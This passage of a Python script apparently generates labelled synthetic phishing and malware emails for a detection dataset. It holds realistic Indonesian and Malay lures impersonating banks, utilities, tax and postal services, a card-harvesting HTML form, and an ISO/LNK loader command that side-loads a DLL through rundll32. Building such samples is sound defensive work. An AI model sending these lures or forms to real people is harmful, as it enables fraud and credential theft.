    stem = f"b{N}-phish-pln-tagihan-html"
    d = D("2024-12-27 07:44:50 +0700")
    rcpt = "sri.wahyuni_1985@yahoo.com"
    dom = "plnmobile-id.com"
    host = "mta-07.plnmobile-id.com"
    a = Auth(f"tagihan@{dom}", "38.180.94.17", host, host, "pass", [], "none", "NONE", dom, stem)
    idpel = digits(stem + "idpel", 12)
    att = f"""<!DOCTYPE html><html lang="id"><head><meta charset="utf-8"><title>PLN Mobile - Tagihan Listrik</title>
<meta name="viewport" content="width=device-width, initial-scale=1"></head>
<body style="font-family:Arial,sans-serif;background:#f4f7fa;margin:0">
<div style="max-width:420px;margin:30px auto;background:#fff;border-radius:8px;padding:24px;border-top:6px solid #00a2e8">
<h3 style="margin:0 0 8px">PLN Mobile</h3>
<p style="font-size:13px">ID Pelanggan: <b>{idpel}</b><br>Periode: November - Desember 2024<br>
Total Tagihan + Denda: <b>Rp 1.384.250</b></p>
<p style="font-size:13px;color:#c00">Pemutusan sementara dijadwalkan 28 Desember 2024.</p>
<form method="POST" action="https://{dom}/bayar/proses.php">
<input type="hidden" name="idpel" value="{idpel}">
<p>Nama pada kartu<br><input name="nama" style="width:100%;padding:8px"></p>
<p>Nomor kartu debit/kredit<br><input name="cc" style="width:100%;padding:8px" maxlength="19"></p>
<p>Masa berlaku (BB/TT) <input name="exp" size="5"> CVV <input name="cvv" size="4" maxlength="4"></p>
<p><button style="background:#00a2e8;color:#fff;border:0;padding:12px;width:100%">BAYAR SEKARANG</button></p>
</form><p style="font-size:10px;color:#999">PT PLN (Persero) - Contact Center 123</p></div></body></html>
"""
    html = kit_html([
        "<p><b>PLN Mobile - Pemberitahuan Tagihan Tertunggak</b></p>",
        "<p>Pelanggan Yth.,</p>",
        f"<p>Tagihan listrik Anda dengan ID Pelanggan <b>{idpel}</b> untuk 2 (dua) bulan terakhir belum dibayar. "
        "Rincian tagihan dan formulir pembayaran terlampir.</p>",
        "<p>Mohon segera melakukan pembayaran sebelum <b>28 Desember 2024</b> untuk menghindari pemutusan aliran "
        "listrik sementara dan biaya penyambungan kembali.</p>",
        "<p>Salam,<br>PT PLN (Persero)</p>",
    ], lang="id")
    body = Multi("mixed", boundary(stem, "phpmailer"), [
        qp_html(html),
        Leaf("text/html", att.encode(), "base64", '; charset="utf-8"; name="Tagihan_Listrik_Desember_2024.html"',
             'attachment; filename="Tagihan_Listrik_Desember_2024.html"'),
    ])
    headers = f"""{hop_local(host, d, stem, '+0300')}
Date: {format_datetime(at(d, '+0300'))}
To: {rcpt}
From: PLN Mobile <tagihan@{dom}>
Subject: [PLN] Tagihan Listrik Tertunggak - ID Pelanggan {idpel[:4]}XXXX{idpel[-4:]}
Message-ID: {phpmailer_id(stem, dom)}
X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0"""
    add(stem, "phishing", "Bahasa Indonesia PLN overdue electricity bill from a look-alike domain with an HTML "
        "attachment holding a payment form that posts card number, expiry and CVV to the kit",
        t_yahoo(rcpt, d, a, stem), headers, body)


def id_tokopedia_seller() -> None:
    stem = f"b{N}-phish-tokopedia-seller"
    d = D("2025-03-27 15:37:19 +0700")
    rcpt = "toko.berkahjaya.official@gmail.com"
    dom = "tokopedia-sellercenter.com"
    a = Auth(f"seller-care@{dom}", "136.143.188.51", "sender4-op-o11.zoho.com", "sender4-op-o11.zoho.com", "pass",
             [(dom, "zmail", "pass")], "none", "NONE", dom, stem)
    url = f"https://{dom}/seller/verifikasi-toko?shop_id={digits(stem + 'shop', 8)}"
    html = f"""<div style="font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;"><div>
<div style="background:#03ac0e;padding:14px 18px;color:#ffffff;font-size:18px;font-weight:bold;">tokopedia <span style="font-weight:normal;font-size:13px;">Seller</span></div>
<p>Halo Seller <b>Berkah Jaya Official</b>,</p>
<p>Toko kamu saat ini dalam <b>peninjauan</b> karena terdeteksi adanya laporan pembeli terkait pesanan yang belum
dikirim. Sebanyak <b>3 pesanan</b> (total Rp 4.870.000) <b>ditahan</b> dan dana penjualan belum dapat dicairkan ke Saldo
Penghasilan.</p>
<p>Agar toko tidak dimoderasi permanen, mohon lakukan verifikasi data pemilik toko dan rekening pencairan dalam
<b>2x24 jam</b>:</p>
<p><a href="{url}" style="background:#03ac0e;color:#fff;padding:10px 22px;border-radius:8px;text-decoration:none;font-weight:bold;">Verifikasi Toko</a></p>
<p>Terima kasih,<br>Tim Seller Care Tokopedia</p>
<p style="font-size:8pt;color:#888;">PT Tokopedia, Tokopedia Tower Ciputra World 2, Jakarta 12940. Email ini dikirim otomatis.</p>
</div><br></div>
"""
    body = Multi("alternative", boundary(stem, "zoho"), [
        qp_plain("Halo Seller Berkah Jaya Official,\n\nToko kamu saat ini dalam peninjauan. 3 pesanan ditahan. Verifikasi "
                 f"dalam 2x24 jam:\n{url}\n\nTim Seller Care Tokopedia\n"),
        qp_html(f'<!DOCTYPE html><html><head><meta content="text/html;charset=UTF-8" http-equiv="Content-Type"></head><body >{html}</body></html>\n')])
    zid = f"{hx(stem + 'z1', 11)}.{hx(stem + 'z2', 12)}.{digits(stem + 'z3', 19)}"
    headers = f"""{dkim(dom, 'zmail', stem, 'Date:Date:From:From:To:To:Message-Id:Message-Id:In-Reply-To:Subject:Subject:MIME-Version:Content-Type:Content-Transfer-Encoding:Reply-To', d, extra=f' q=dns/txt;')}
Received: from mail.zoho.com by mx.zohomail.com
	with SMTP id {ts(d)}{digits(stem + 'zs', 3)}{digits(stem + 'zs2', 3)}.{digits(stem + 'zs3', 3)}; {rfc_la(d)}
Date: {format_datetime(at(d, '+0700'))}
From: Tokopedia Seller Care <seller-care@{dom}>
To: "{rcpt}" <{rcpt}>
Message-Id: <{zid}@{dom}>
Subject: [Tokopedia Seller] Toko Anda dalam peninjauan - 3 pesanan ditahan
MIME-Version: 1.0
Importance: High
User-Agent: Zoho Mail
X-Mailer: Zoho Mail"""
    add(stem, "phishing", "Bahasa Indonesia Tokopedia seller-center moderation lure sent from a look-alike domain "
        "hosted on Zoho Mail, linking to a page harvesting the shop owner's login and payout bank account",
        t_gmail(rcpt, d, a, stem), headers, body)


def id_posind() -> None:
    stem = f"b{N}-phish-posind-bea-cukai"
    d = D("2024-08-14 11:09:58 +0700")
    rcpt = "hendra.gunawan88@outlook.com"
    dom = "posindonesia-lacak.com"
    host = "vps-3e8b1c24.vps.ovh.ca"
    a = Auth(f"www-data@{host}", "51.79.67.203", host, host, "none", [], "none", "NONE", dom, stem)
    resi = f"RR{digits(stem + 'resi', 9)}ID"
    url = f"https://{dom}/lacak/?resi={resi}"
    html = kit_html([
        '<div style="background:#ff6600;padding:12px;color:#fff;font-weight:bold;font-size:18px;">POS IND</div>',
        "<p>Pelanggan Yth,</p>",
        f"<p>Kiriman internasional Anda dengan nomor resi <b>{resi}</b> tertahan di Kantor Pos Pemeriksaan Bea "
        "Cukai Pasar Baru karena bea masuk dan biaya penanganan belum dibayar.</p>",
        "<table style='font-size:14px;'><tr><td>Bea masuk</td><td>: Rp 18.500</td></tr>"
        "<tr><td>Biaya penanganan</td><td>: Rp 9.000</td></tr><tr><td><b>Total</b></td><td><b>: Rp 27.500</b></td></tr></table>",
        f'<p>Silakan lakukan pembayaran melalui tautan berikut: <a href="{url}">{url}</a></p>',
        "<p>Kiriman yang tidak diselesaikan dalam 3 hari akan dikembalikan ke negara asal.</p>",
        "<p>Hormat kami,<br>PT Pos Indonesia (Persero)</p>",
    ], lang="id")
    body = qp_html(html)
    headers = f"""Received: by {host} (Postfix, from userid 33)
	id {hx(stem + 'q', 10, True)}; {format_datetime(at(d, '+0000'))}
To: {rcpt}
Subject: Kiriman Anda {resi} tertahan - Pembayaran Bea Cukai
From: POS IND <notifikasi@{dom}>
Message-Id: <{at(d, '+0000').strftime('%Y%m%d%H%M%S')}.{hx(stem + 'q', 10, True)}@{host}>
Date: {format_datetime(at(d, '+0000'))}"""
    add(stem, "phishing", "Bahasa Indonesia Pos Indonesia customs-duty lure sent with PHP mail() from an OVH VPS (no SPF) "
        "with a look-alike From domain, linking to a small-fee card-harvesting page",
        t_m365(rcpt, d, a, stem, ctry="CA", lang="id", consumer=True, region="apcprd01"), headers, body)


def id_crypto_invest() -> None:
    stem = f"b{N}-phish-crypto-invest-wa"
    d = D("2025-04-29 12:20:05 +0700")
    rcpt = "agus.setiawan.kerja@gmail.com"
    sender = "mentor.cuan.indonesia@hotmail.com"
    mbx = "TYZPR04MB" + digits(stem + "mb", 4)
    a = Auth(sender, "40.92.107.94", "mail-tyzapc01olkn2094.outbound.protection.outlook.com",
             "APC01-TYZ-obe.outbound.protection.outlook.com", "pass", [("hotmail.com", "selector1", "pass")],
             "pass", "NONE", "hotmail.com", stem)
    wa = "https://chat.whatsapp.com/" + alnum(stem + "wa", 22)
    tg = "https://t.me/+" + alnum(stem + "tg", 16)
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body dir="ltr">'
            '<div style="font-family: Aptos, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">'
            "Selamat siang Bapak/Ibu,<br><br>"
            "Perkenalkan, saya <b>Dr. Hendro Wibisono</b>, analis senior dan mentor komunitas <b>Cuan Bareng AI</b>. "
            "Tim kami menggunakan robot trading AI untuk aset kripto dan emas digital dengan <b>profit stabil 3-5% per "
            "hari</b>. Member kami rata-rata mendapat Rp 15-40 juta per bulan hanya dengan modal awal Rp 2 juta.<br><br>"
            "&#9989; Terdaftar dan diawasi (sertifikat terlampir di grup)<br>&#9989; Modal kembali 100% jika rugi<br>"
            "&#9989; Sinyal gratis setiap hari pukul 19.00 WIB<br><br>"
            "Kuota grup VIP minggu ini tinggal <b>17 orang</b>. Silakan bergabung di grup WhatsApp kami:<br>"
            f'<a href="{wa}">{wa}</a><br><br>Atau Telegram: <a href="{tg}">{tg}</a><br><br>'
            "Setelah bergabung, hubungi asisten saya Ibu Rina untuk registrasi akun dan deposit pertama.<br><br>"
            "Salam sukses,<br>Dr. Hendro Wibisono<br>Cuan Bareng AI Community</div></body></html>")
    plain = ("Selamat siang Bapak/Ibu,\n\nPerkenalkan, saya Dr. Hendro Wibisono, mentor komunitas Cuan Bareng AI. Profit "
             "stabil 3-5% per hari dengan robot trading AI. Kuota grup VIP minggu ini tinggal 17 orang.\n\n"
             f"WhatsApp: {wa}\nTelegram: {tg}\n\nSalam sukses,\nDr. Hendro Wibisono\n")
    body = Multi("alternative", f"_000_{mbx}{hx(stem, 24, True)}_", [qp_plain(plain), qp_html(html)])
    headers = f"""{dkim('hotmail.com', 'selector1', stem, 'From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck', d)}
Received: from {mbx}.apcprd04.prod.outlook.com
 ([fe80::{hx(stem + 'f1', 4)}:{hx(stem + 'f2', 4)}:{hx(stem + 'f3', 4)}:{hx(stem + 'f4', 4)}]) by {mbx}.apcprd04.prod.outlook.com
 ([fe80::{hx(stem + 'f1', 4)}:{hx(stem + 'f2', 4)}:{hx(stem + 'f3', 4)}:{hx(stem + 'f4', 4)}%4]) with mapi id 15.20.8678.025; {rfc_utc(d)}
From: Cuan Bareng AI <{sender}>
Subject: Undangan Grup VIP Trading AI - Profit 3-5% per Hari (Kuota Terbatas)
Thread-Topic: Undangan Grup VIP Trading AI - Profit 3-5% per Hari (Kuota Terbatas)
Thread-Index: {tindex(stem, 16, 'db')}
Date: {format_datetime(at(d, '+0000'))}
Message-ID:
 <{mbx}{hx(stem + 'omid', 28, True)}@{mbx}.apcprd04.prod.outlook.com>
Accept-Language: id-ID, en-US
Content-Language: id-ID
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
To: undisclosed-recipients:;
MIME-Version: 1.0"""
    add(stem, "phishing", "Bahasa Indonesia AI crypto and digital-gold investment scam from a free Hotmail account, "
        "promising 3-5% daily profit and steering the reader into WhatsApp and Telegram groups",
        t_gmail(rcpt, d, a, stem), headers, body)


def id_sharepoint_onenote() -> None:
    stem = f"b{N}-phish-sharepoint-onenote-m365"
    d = D("2025-10-02 10:04:40 +0700")
    rcpt = "finance@cahayabaru-elektrik.co.id"
    tenant = "sinarkarya-logistik.co.id"
    a = Auth("no-reply@sharepointonline.com", "40.107.215.98", "mail-tyzapc01on2098.outbound.protection.outlook.com",
             "APC01-TYZ-obe.outbound.protection.outlook.com", "pass", [("sharepointonline.com", "selector1", "pass")],
             "pass", "REJECT", "sharepointonline.com", stem)
    link = (f"https://sinarkaryalogistik-my.sharepoint.com/:o:/g/personal/hendra_wijaya_sinarkarya-logistik_co_id/"
            f"E{alnum(stem + 'sp', 42)}?e={alnum(stem + 'e', 6)}")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body><div style="font-family:'Segoe UI',Tahoma,sans-serif;max-width:480px;">
<table role="presentation" cellpadding="0" cellspacing="0" style="width:100%;"><tr><td style="padding:24px;">
<p style="font-size:16px;margin:0 0 12px;"><b>Hendra Wijaya</b> membagikan file dengan Anda</p>
<div style="background:#f5f5f5;padding:12px 14px;border-left:3px solid #7719aa;font-size:14px;margin-bottom:16px;">
Selamat pagi Bapak/Ibu, terlampir dokumen pembayaran dan rekap tagihan Q3 2025 untuk direview. Mohon dicek sebelum tanggal 5. Terima kasih.</div>
<table role="presentation" cellpadding="0" cellspacing="0"><tr><td style="padding-right:10px;"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240925.001/assets/item-types/48/one.png" width="32" height="32" alt=""></td>
<td style="font-size:14px;">Dokumen Pembayaran Q3 2025</td></tr></table>
<p style="margin:20px 0;"><a href="{link}" style="background:#0f6cbd;color:#fff;padding:9px 18px;text-decoration:none;font-size:14px;">Buka</a></p>
<p style="font-size:12px;color:#616161;">Tautan ini hanya berfungsi untuk penerima langsung pesan ini.</p>
<p style="font-size:11px;color:#616161;"><img src="https://res-1.cdn.office.net/assets/mail/file-icon/png/microsoft_32x32.png" width="16" height="16" alt="">
Pernyataan privasi Microsoft</p>
</td></tr></table></div></body></html>
"""
    plain = (f"Hendra Wijaya membagikan file dengan Anda\n\nSelamat pagi Bapak/Ibu, terlampir dokumen pembayaran dan rekap "
             f"tagihan Q3 2025 untuk direview. Mohon dicek sebelum tanggal 5. Terima kasih.\n\nDokumen Pembayaran Q3 "
             f"2025\nBuka: {link}\n\nPernyataan privasi Microsoft\n")
    body = Multi("alternative", f"_000_{hx(stem + 'b', 32)}_", [qp_plain(plain), qp_html(html)])
    headers = f"""{dkim('sharepointonline.com', 'selector1', stem, 'From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck', d)}
Received: from TYZPR04MB{digits(stem + 'm', 4)}.apcprd04.prod.outlook.com (2603:1096:400:{hx(stem + 'v', 3)}::{digits(stem + 'v2', 2)})
 by TYZPR04MB{digits(stem + 'm2', 4)}.apcprd04.prod.outlook.com with Microsoft SMTP Server
 (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.9160.18; {rfc_utc(d)}
From: Hendra Wijaya <no-reply@sharepointonline.com>
To: <{rcpt}>
Reply-To: <hendra.wijaya@{tenant}>
Subject: Hendra Wijaya membagikan "Dokumen Pembayaran Q3 2025" dengan Anda
Date: {format_datetime(at(d, '+0000'))}
Message-ID: <{guid(stem + 'spmid')}@odspnotify>
MIME-Version: 1.0
X-MS-Exchange-Organization-SharingNotification: true
X-Sharing-Type: Link
X-MS-SharePoint-TenantId: {guid(stem + 'sptenant')}"""
    add(stem, "phishing", "Genuine SharePoint Online sharing notification sent from a compromised Indonesian logistics "
        "company's tenant, pointing to a OneNote notebook that relays the victim to a Microsoft 365 credential kit",
        t_m365(rcpt, d, a, stem, ctry="SG", lang="id", region="apcprd06"), headers, body)


# ---------------------------------------------------------------------------
# ATTACKS - Malaysia
# ---------------------------------------------------------------------------

def my_maybank_s2u() -> None:
    stem = f"b{N}-phish-maybank-secure2u"
    d = D("2024-11-04 21:18:30 +0800")
    rcpt = "nurul.aisyah.kamal@gmail.com"
    dom = "m2u-secure2u.com"
    host = "my-shared12.hostingmy.net"
    a = Auth(f"notifikasi@{dom}", "103.6.198.56", host, host, "pass", [(dom, "default", "pass")], "none", "NONE", dom, stem)
    url = f"https://www.{dom}/m2u/common/login.do?action=Secure2uActivation&t={hx(stem + 't', 16)}"
    html = brand_html(
        "#ffc83d", "Maybank2u", "Pengesahan Secure2u Diperlukan / Secure2u Verification Required",
        ["Pelanggan yang dihargai,",
         "Selaras dengan garis panduan Bank Negara Malaysia untuk memperkukuh keselamatan perbankan dalam talian, "
         "semua pengguna Maybank2u perlu <b>mengesahkan semula Secure2u</b> pada peranti berdaftar sebelum "
         "<b>6 November 2024</b>. Akaun yang tidak disahkan akan disekat sementara daripada transaksi DuitNow dan "
         "pemindahan IBG.",
         "<i>Dear valued customer, in line with Bank Negara Malaysia guidelines, all Maybank2u users are required to "
         "re-verify Secure2u on their registered device before 6 November 2024. Unverified accounts will be "
         "temporarily restricted from DuitNow and IBG transfers.</i>"],
        ("Sahkan Sekarang / Verify Now", url),
        "Malayan Banking Berhad (3813-K). Dilindungi oleh PIDM setakat RM250,000 bagi setiap pendeposit.<br>"
        "Ini adalah e-mel janaan komputer. Sila jangan balas.",
        lang="ms", after=["Terima kasih kerana memilih Maybank.<br>Humanising Financial Services"])
    html = html.replace('<span style="font-size:22px;font-weight:bold;color:#ffffff;">', '<span style="font-size:22px;font-weight:bold;color:#000000;">')
    plain = ("Pelanggan yang dihargai,\n\nSemua pengguna Maybank2u perlu mengesahkan semula Secure2u sebelum 6 November "
             f"2024.\n\nSahkan sekarang: {url}\n\nMaybank\n")
    body = Multi("alternative", boundary(stem, "phpmailer"), [qp_plain(plain), qp_html(html)])
    headers = f"""{dkim(dom, 'default', stem, 'Content-Type:MIME-Version:Message-ID:Date:Subject:To:From:Reply-To', d)}
{hop_exim(host, d, stem, '127.0.0.1', 'www.' + dom, f'notifikasi@{dom}', rcpt, '+0800', 'esmtpa')}
Date: {format_datetime(at(d, '+0800'))}
To: {rcpt}
From: Maybank2u <notifikasi@{dom}>
Reply-To: Maybank2u <notifikasi@{dom}>
Subject: Maybank2u: Pengesahan Secure2u diperlukan sebelum 6 November 2024
Message-ID: {phpmailer_id(stem, 'www.' + dom)}
X-Mailer: WPMailSMTP/Mailer/smtp 4.1.1
X-AntiAbuse: This header was added to track abuse, please include it with any abuse report
X-AntiAbuse: Primary Hostname - {host}
X-AntiAbuse: Original Domain - gmail.com
X-AntiAbuse: Originator/Caller UID/GID - [47 12] / [47 12]
X-AntiAbuse: Sender Address Domain - {dom}
MIME-Version: 1.0"""
    add(stem, "phishing", "Bilingual Malay/English Maybank2u Secure2u re-verification lure from a look-alike domain on "
        "shared hosting, linking to a Maybank2u login and TAC harvesting page", t_gmail(rcpt, d, a, stem), headers, body)


def my_lhdn_refund() -> None:
    stem = f"b{N}-phish-lhdn-bayaran-balik"
    d = D("2025-06-10 10:42:16 +0800")
    rcpt = "lim.weiming@yahoo.com"
    dom = "mytax-hasil.com"
    host = f"mx1.{dom}"
    a = Auth(f"bayaranbalik@{dom}", "178.128.88.61", host, host, "pass", [(dom, "mail", "pass")], "pass", "NONE", dom, stem)
    url = f"https://{dom}/bayaranbalik/semakan?tt=2024&id={hx(stem + 'id', 10)}"
    html = brand_html(
        "#1a3b73", "Lembaga Hasil Dalam Negeri Malaysia", "Notis Bayaran Balik Cukai Pendapatan Tahun Taksiran 2024",
        ["Tuan/Puan,",
         "Merujuk kepada Borang BE Tahun Taksiran 2024 yang telah dikemukakan melalui e-Filing, pihak LHDNM "
         "mengesahkan bahawa tuan/puan layak menerima <b>bayaran balik cukai sebanyak RM 1,284.60</b>.",
         "Bayaran balik tidak dapat dikreditkan kerana maklumat akaun bank tuan/puan dalam rekod kami tidak lengkap. "
         "Sila kemas kini maklumat akaun bank melalui FPX dalam tempoh <b>3 hari bekerja</b> untuk mengelakkan "
         "tuntutan dibatalkan.",
         "<i>You are entitled to a tax refund of RM 1,284.60. Please update your bank details via FPX within 3 working "
         "days.</i>"],
        ("Semak Bayaran Balik", url),
        "Lembaga Hasil Dalam Negeri Malaysia, Menara Hasil, Persiaran Rimba Permai, Cyber 8, 63000 Cyberjaya, "
        "Selangor.<br>Hasil Care Line: 03-8911 1000",
        lang="ms")
    body = Multi("alternative", boundary(stem, "roundcube"), [
        qp_plain(f"Tuan/Puan,\n\nTuan/puan layak menerima bayaran balik cukai sebanyak RM 1,284.60. Kemas kini maklumat "
                 f"akaun bank dalam tempoh 3 hari bekerja:\n{url}\n\nLHDNM\n"), qp_html(html)])
    headers = f"""{dkim(dom, 'mail', stem, 'From:To:Subject:Date:Message-ID:MIME-Version:Content-Type', d)}
Received: from localhost (localhost [127.0.0.1])
	by {host} (Postfix) with ESMTPSA id {hx(stem + 'q', 11, True)}
	for <{rcpt}>; {format_datetime(at(d, '+0000'))}
From: "LHDNM - Bayaran Balik" <bayaranbalik@{dom}>
To: {rcpt}
Subject: Notis Bayaran Balik Cukai TT2024 - RM 1,284.60 (Tindakan Diperlukan)
Date: {format_datetime(at(d, '+0000'))}
Message-ID: <{hx(stem + 'mid', 20)}@{host}>
MIME-Version: 1.0"""
    add(stem, "phishing", "Bahasa Melayu LHDN income-tax refund lure from a look-alike MyTax domain with its own DKIM and "
        "DMARC, linking to a fake FPX bank-selection page that harvests online-banking logins",
        t_yahoo(rcpt, d, a, stem), headers, body)


def my_tng_rfid() -> None:
    stem = f"b{N}-phish-tng-rfid-amp"
    d = D("2025-02-25 17:55:02 +0800")
    rcpt = "faizal.rahman@hotmail.com"
    dom = "tng-rfid-my.com"
    host = "vmi1985532.contaboserver.net"
    a = Auth(f"support@{dom}", "173.212.231.48", host, host, "pass", [], "none", "NONE", dom, stem)
    url = f"https://www.google.com/amp/s/{dom}/ekyc/rfid?u={hx(stem + 'u', 12)}"
    html = kit_html([
        '<div style="background:#005abb;padding:14px;"><span style="color:#fff;font-size:20px;font-weight:bold;">'
        "Touch &#8217;n Go</span></div>",
        "<p>Pelanggan yang dihormati,</p>",
        "<p>Tag <b>RFID</b> anda akan <b>dinyahaktifkan pada 28 Februari 2025</b> kerana maklumat eKYC akaun "
        "Touch &#8217;n Go eWallet yang dipautkan belum dikemas kini mengikut keperluan baharu PLUS dan LLM.</p>",
        "<p>Kenderaan dengan tag RFID tidak aktif tidak boleh melalui lorong RFID dan akan dikenakan kompaun.</p>",
        f'<p><a href="{url}" style="background:#005abb;color:#fff;padding:11px 22px;text-decoration:none;'
        'border-radius:20px;">Kemas Kini eKYC</a></p>',
        "<p>Your RFID tag will be deactivated on 28 February 2025. Please update your eKYC details.</p>",
        "<p>Terima kasih,<br>Touch &#8217;n Go Customer Care</p>",
    ], lang="ms")
    body = Multi("alternative", boundary(stem, "phpmailer"), [
        qp_plain(f"Tag RFID anda akan dinyahaktifkan pada 28 Februari 2025. Kemas kini eKYC: {url}\n"), qp_html(html)])
    headers = f"""{hop_local(host, d, stem, '+0100')}
Date: {format_datetime(at(d, '+0100'))}
To: {rcpt}
From: "Touch 'n Go" <support@{dom}>
Subject: Tag RFID anda akan dinyahaktifkan - Kemas kini eKYC sebelum 28/02/2025
Message-ID: {phpmailer_id(stem, dom)}
X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0"""
    add(stem, "phishing", "Bahasa Melayu Touch 'n Go RFID deactivation and eKYC lure from a look-alike domain, with the "
        "link routed through a google.com/amp open redirect to an eWallet credential page",
        t_m365(rcpt, d, a, stem, ctry="DE", lang="ms", consumer=True, region="apcprd03"), headers, body)


def my_posmalaysia_iso() -> None:
    stem = f"b{N}-phish-posmalaysia-iso"
    d = D("2024-09-18 09:27:44 +0800")
    rcpt = "akaun@kedaiperabotjaya.com.my"
    dom = "tadikapintar.edu.my"
    host = "sg-shared08.webhostingserver.my"
    a = Auth(f"admin@{dom}", "110.4.45.211", host, host, "pass", [(dom, "default", "pass")], "none", "NONE", dom, stem)
    trk = f"ER{digits(stem + 'trk', 9)}MY"
    lnk = files.lnk_shortcut(
        r"C:\Windows\System32\cmd.exe",
        r"/c start /min rundll32.exe .\data\libcurl.dll,DllRegisterServer & start Notis_Penghantaran.pdf")
    iso = files.iso_image([
        (f"Notis_Penghantaran_{trk}.pdf.lnk", lnk),
        ("libcurl.dll", files.pe_stub()),
    ], "POSMY_NOTIS")
    paras = [
        "Kepada Pelanggan,", "",
        f"Bungkusan anda dengan nombor penjejakan <b>{trk}</b> tidak dapat dihantar pada 17/09/2024 kerana tiada "
        "penerima di alamat. Sila rujuk Notis Penghantaran Gagal yang dilampirkan dan bawa notis tersebut ke "
        "Pejabat Pos berhampiran dalam tempoh 7 hari.", "",
        "Dear Customer, your parcel could not be delivered. Please refer to the attached notice.", "",
        "Terima kasih,", "Pos Malaysia Berhad", "Customer Service 1-300-300-300",
    ]
    body = Multi("mixed", boundary(stem, "roundcube"), [
        Multi("alternative", boundary(stem + "a", "roundcube"), [
            qp_plain("\n".join(p.replace("<b>", "").replace("</b>", "") for p in paras) + "\n"),
            qp_html('<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8" /></head><body '
                    'style=\'font-size: 10pt; font-family: Verdana,Geneva,sans-serif\'>\n'
                    + "\n".join(f"<p>{p}</p>" if p else "<p>&nbsp;</p>" for p in paras) + "\n</body></html>\n")]),
        attachment("application/x-iso9660-image", f"PosMalaysia_Notis_{trk}.iso", iso),
    ])
    headers = f"""{dkim(dom, 'default', stem, 'Content-Type:Message-ID:Subject:To:From:Date:MIME-Version:Sender:Reply-To:Cc:In-Reply-To:References', d)}
{hop_exim(host, d, stem, '41.216.188.37', 'webmail.' + dom, f'admin@{dom}', rcpt, '+0800')}
MIME-Version: 1.0
Date: {format_datetime(at(d, '+0800'))}
From: Pos Malaysia <admin@{dom}>
To: {rcpt}
Subject: Notis Penghantaran Gagal - {trk}
Message-ID: <{hx(stem + 'mid', 32)}@{dom}>
X-Sender: admin@{dom}
User-Agent: Roundcube Webmail/1.6.0
X-AntiAbuse: This header was added to track abuse, please include it with any abuse report
X-AntiAbuse: Primary Hostname - {host}
X-AntiAbuse: Original Domain - kedaiperabotjaya.com.my
X-AntiAbuse: Sender Address Domain - {dom}
X-Authenticated-Sender: {host}: admin@{dom}"""
    add(stem, "malware", "Bahasa Melayu Pos Malaysia failed-delivery notice sent from a compromised kindergarten "
        "webmail account, attaching an ISO image that hides a PDF-named shortcut which side-loads a DLL",
        t_zoho(rcpt, d, a, stem), headers, body)


def my_tnb_qr_pdf() -> None:
    stem = f"b{N}-phish-tnb-qr-pdf"
    d = D("2025-05-06 08:12:09 +0800")
    rcpt = "admin@klinikdrazlan.com.my"
    dom = "mytnb-bil.com"
    mf = f"bounce+{hx(stem + 'bo', 6)}.{hx(stem + 'bo2', 6)}-admin=klinikdrazlan.com.my@mg.{dom}"
    a = Auth(mf, "159.135.224.31", "m224-31.mailgun.net", "m224-31.mailgun.net", "pass",
             [(f"mg.{dom}", "pic", "pass")], "none", "NONE", dom, stem)
    acct = digits(stem + "acct", 12)
    url = f"https://{dom}/bayar?acc={acct}&q=1"
    pdfdata = qr_pdf(url, [
        "TENAGA NASIONAL BERHAD", "", "NOTIS TUNGGAKAN DAN PEMOTONGAN BEKALAN",
        f"No. Akaun: {acct}", "Jumlah Tunggakan: RM 287.45", "Tarikh Pemotongan: 09/05/2025", "",
        "Imbas kod QR di bawah untuk membuat bayaran segera melalui FPX / DuitNow.",
        "Scan the QR code below to pay immediately via FPX / DuitNow."], "Notis Tunggakan TNB")
    html = brand_html(
        "#e4002b", "myTNB", "Bil Elektrik Anda - Notis Tunggakan",
        ["Pelanggan yang dihargai,",
         f"Akaun elektrik <b>{acct}</b> mempunyai tunggakan sebanyak <b>RM 287.45</b>. Bekalan elektrik akan "
         "dipotong pada <b>9 Mei 2025</b> sekiranya bayaran tidak diterima.",
         "Sila rujuk notis yang dilampirkan dan imbas kod QR untuk bayaran segera."],
        None, "Tenaga Nasional Berhad (200866-W). TNB Careline 15454.", lang="ms")
    body = Multi("mixed", boundary(stem, "mailgun"), [
        Multi("alternative", boundary(stem + "a", "mailgun"), [
            qp_plain(f"Akaun elektrik {acct} mempunyai tunggakan RM 287.45. Sila rujuk notis yang dilampirkan.\n"),
            qp_html(html)]),
        attachment("application/pdf", f"Notis_Tunggakan_TNB_{acct[-6:]}.pdf", pdfdata),
    ])
    headers = f"""{dkim('mg.' + dom, 'pic', stem, 'Content-Type: Mime-Version: Subject: Subject: From: From: To: To: Date: Message-Id: Sender: Sender', d)}
X-Mailgun-Sending-Ip: 159.135.224.31
X-Mailgun-Sid: {b64s(stem + 'sid', 60)}
Received: by {hx(stem + 'mgh', 28)} with HTTP; {rfc_utc(d)}
Date: {format_datetime(at(d, '+0000'))}
From: myTNB <ebil@{dom}>
To: {rcpt}
Subject: Bil Elektrik myTNB Anda - Tunggakan RM 287.45 - Notis Pemotongan
Message-Id: <{at(d, '+0000').strftime('%Y%m%d%H%M%S')}.{hx(stem + 'mid', 16)}@mg.{dom}>
Sender: ebil@mg.{dom}
Mime-Version: 1.0"""
    add(stem, "phishing", "Bahasa Melayu TNB arrears and disconnection notice sent through Mailgun from a look-alike "
        "domain, with a PDF whose only payment path is a QR code leading to a fake FPX page",
        t_m365(rcpt, d, a, stem, ctry="US", lang="ms", region="apcprd01"), headers, body)


def my_mydigitalid() -> None:
    stem = f"b{N}-phish-mydigitalid-webflow"
    d = D("2025-08-12 13:03:51 +0800")
    rcpt = "azman.hashim72@gmail.com"
    sender = "mydigitalid.sokongan@gmail.com"
